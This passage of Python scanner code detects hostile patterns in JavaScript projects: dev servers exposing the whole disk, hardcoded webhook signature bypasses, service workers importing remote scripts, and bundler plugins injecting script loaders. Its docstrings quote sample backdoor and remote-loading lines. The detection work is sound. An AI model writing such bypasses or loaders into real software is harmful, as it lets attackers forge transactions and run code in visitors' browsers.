            made = self.bound.get(self.src(obj))
            obj = made if made is not None else obj
        return obj is not None and obj.type == "new_expression" and \
            self.src(obj.child_by_field_name("constructor")) == "Image"

    # -- dev servers ---------------------------------------------------------------------------------------------------
    def _dev_server(self, pair) -> None:
        """Vite's `server: { host: "0.0.0.0", fs: { allow: ["/"] } }`: every file of the machine served to the
        network."""
        key = pair.child_by_field_name("key")
        value = pair.child_by_field_name("value")
        if key is None or value is None or self.src(key).strip("'\"") != "server" or value.type != "object":
            return
        text = self.src(value)
        if not re.search(r"\bhost\s*:\s*(?:true\b|['\"](?:0\.0\.0\.0|::)['\"])", text):
            return
        m = re.search(r"\ballow\s*:\s*\[([^\]]*)\]", text)
        if m is None:
            return
        for item in re.findall(r"['\"`]([^'\"`]+)['\"`]|(homedir\(\))", m.group(1)):
            where = item[0] or "~"
            if paths.normalize(where) in ("/", "~"):
                self.block("exfiltration", f"the dev server allows serving {where} and listens on every interface: "
                                           "anyone on the network reads every key and credential of this machine; "
                                           "allow only the project's folders, or listen on localhost", value)
                return

    # -- a request's signature check skipped for a value written in the code ------------------------------------------
    def signature_bypass(self) -> None:
        """A handler that checks a request's signature (Stripe's `constructEvent`, an HMAC's `timingSafeEqual`,
        `verify…`) but skips it when a header, query or body field equals a value written in the code (`if
        (req.headers["x-internal-replay"] === "1f2e3d") event = JSON.parse(req.body)`): whoever learns the value
        forges any event (orders marked paid, accounts credited). The branch that skips reads the body as trusted,
        or hands the request on (`return next()`). A condition on the environment (`NODE_ENV === "test"`), on a
        secret of it, or on the method or path (`OPTIONS`, a health check) is not such a key."""
        stack = [self.root]
        while stack:
            n = stack.pop()
            if n.type in ("if_statement", "ternary_expression"):
                found = self._bypassed(n)
                if found is not None:
                    key, value, at = found
                    self.block("privilege-escalation", f"a request whose {key} is \"{value[:20]}\" skips the signature "
                                                       "check of this handler: whoever learns that value, written in "
                                                       "the code, forges any event (an order marked paid); verify "
                                                       "every request, and replay events through the provider's own "
                                                       "tools", at)
                    return
            stack.extend(n.named_children)

    def _bypassed(self, n):
        """(what of the request, the value, the condition) when the `if` or `? :` `n` skips a signature check for a
        literal value of the request (see signature_bypass); else None."""
        cond = n.child_by_field_name("condition")
        if cond is None:
            return None
        while cond.type == "parenthesized_expression" and cond.named_children:
            cond = cond.named_children[0]
        compare = None
        for c in [cond] + ([cond.child_by_field_name("left"), cond.child_by_field_name("right")]
                           if cond.type == "binary_expression" and self.src(cond.child_by_field_name("operator")) in
                           ("&&", "||") else []):
            if c is not None and c.type == "binary_expression" and \
                    self.src(c.child_by_field_name("operator")) in ("===", "==", "!==", "!="):
                compare = c
                break
        if compare is None:
            return None
        left, right = compare.child_by_field_name("left"), compare.child_by_field_name("right")
        if left is None or right is None:
            return None
        right, left = self._literal_side(right), self._literal_side(left)
        if right.type not in ("string", "template_string", "number"):
            left, right = right, left
        value = self.string(right) if right.type != "number" else self.src(right)
        key = _REQUEST_FIELD.search(self.src(left))
        if not value or right.type not in ("string", "template_string", "number") or key is None or \
                _NOT_KEYS.search(self.src(left)):
            return None
        if right.type == "template_string" and any(c.type == "template_substitution" for c in right.named_children):
            return None
        equal = self.src(compare.child_by_field_name("operator")) in ("===", "==")
        then, other = n.child_by_field_name("consequence"), n.child_by_field_name("alternative")
        skipping, checking = (then, other) if equal else (other, then)
        if skipping is None:
            return None
        skip_text = self.src(skipping)
        if _VERIFY_CALL.search(skip_text):
            return None
        if checking is not None:
            if not _VERIFY_CALL.search(self.src(checking)) or not _TRUSTS_BODY.search(skip_text):
                return None
        else:  # if (req.headers["x-debug"] === "letmein") return next(); … verify(…)
            up = n.parent
            rest = self.doc.data[n.end_byte:up.end_byte].decode("utf-8", "replace") if up is not None else ""
            if not equal or not re.search(r"\bnext\s*\(", skip_text) or not _VERIFY_CALL.search(rest):
                return None
        shown = key.group(0).strip()
        return f"`{shown}`" if len(shown) <= 60 else "header", value, cond

    def _literal_side(self, node):
        """The literal a constant of the code's own holds (`const KEY = "1f2e3d"`), else `node` itself."""
        if node.type != "identifier" or self.mutable(self.src(node)):
            return node
        made = self.declared(node, frozenset({"string", "number"}))
        return made if made is not None and made.type in ("string", "number") else node

    # -- script text injected into pages and bundles ---------------------------------------------------------------
    def _imported_script(self, call) -> None:
        """`importScripts("https://sw-cdn.x.io/runtime.js")` in a service worker: the script runs in the worker that
        sees every request and response of every visitor of the app, and whoever serves it decides what it does. The
        app's own paths, Workbox's and Firebase's CDNs and the npm CDNs are ordinary; any other host is refused."""
        fn = call.child_by_field_name("function")
        if fn is None or self.src(fn) not in ("importScripts", "self.importScripts", "globalThis.importScripts"):
            return
        for a in self.args(call):
            text = self._url_text(a)
            host = remote_target(text) if text is not None else None
            if not host or host in _WORKER_SCRIPT_HOSTS or \
                    host == "storage.googleapis.com" and "/workbox-cdn/" in text:
                continue
            self.block("download-exec", f"the service worker imports and runs a script from {host}: it runs in front "
                                        "of every page of the app for every visitor, and that host decides what it "
                                        "does; bundle the script with the app and import it by a relative path", a)
            return

    def _chunk_loader(self, node, text: str) -> None:
        """Text a bundler plugin appends to the code it outputs (`chunk.code += …` in `generateBundle`, what
        `renderChunk` returns, a `banner`/`footer`) that loads a script from another host: every page of the
        app then runs whatever that host serves, out of sight of its HTML."""
        m = _LOADS_SCRIPT.search(text)
        if m is None:
            return
        up = node.parent
        hook = None
        while up is not None and hook is None:
            if up.type in ("method_definition", "pair"):
                k = up.child_by_field_name("name" if up.type == "method_definition" else "key")
                name = self.src(k).strip("'\"") if k is not None else ""
                hook = name if name in _CHUNK_HOOKS else None
            elif up.type in ("augmented_assignment_expression", "assignment_expression"):
                left = up.child_by_field_name("left")
                if left is not None and re.search(r"\.code$", self.src(left)):
                    hook = f"`{self.src(left)}`"
            up = up.parent
        if hook is None:
            return
        for u in re.findall(r"https?://[^\s'\"`)]+", text):
            host = remote_target(u)
            if host:
                self.block("download-exec", f"the bundler plugin adds code to the app's bundles ({hook}) that loads "
                                            f"and runs a script from {host}: every visitor runs whatever that host "
                                            "serves; add third-party scripts to the page's HTML in the open, or bundle "
                                            "them",
                           node)
                return

    def _defines(self, pair) -> None:
        """A bundler's `define: { __CFG__: JSON.stringify(process.env) }`: the name stands for the environment in
        the code it builds, and in script text the config injects."""
        key, value = pair.child_by_field_name("key"), pair.child_by_field_name("value")
        if key is None or value is None or self.src(key).strip("'\"") != "define" or value.type != "object":
            return
        for c in value.named_children:
            k, v = c.child_by_field_name("key"), c.child_by_field_name("value")
            if c.type == "pair" and k is not None and v is not None and self.mentions_env(v):
                self._web_defines[self.src(k).strip("'\"`")] = self.src(v)

    def _injected(self, node) -> None:
        v = self.string(node)
        if v is None and node.type == "template_string":
            v = self._script_text(node)
        if v is not None and "http" in v:
            self._chunk_loader(node, v)
        if v is not None and self._web_defines:
            for name, value in self._web_defines.items():
                v = re.sub(rf"(?<![\w$.]){re.escape(name)}(?![\w$])", lambda _m: f"({value})", v)
        if v is None or len(v) < 24 or not SCRIPT_SENDS.search(v) or not _SCRIPT_READS.search(v) or \
                "http" not in v:
            return
        for s in page_scripts(v, _SCRIPT_READS):
            self.ctx.nested(s, "typescript", self.doc, node, None)

    def _script_text(self, node) -> str | None:
        """A template's text with each substitution standing for what it is: the environment stays `process.env`,
        anything else a name."""
        out = []
        for c in node.named_children:
            if c.type == "template_substitution":
                inner = c.named_children[0] if c.named_children else None
                out.append("process.env" if inner is not None and self.mentions_env(inner) else "__value")
            else:
                out.append(self.src(c))
        return "".join(out)
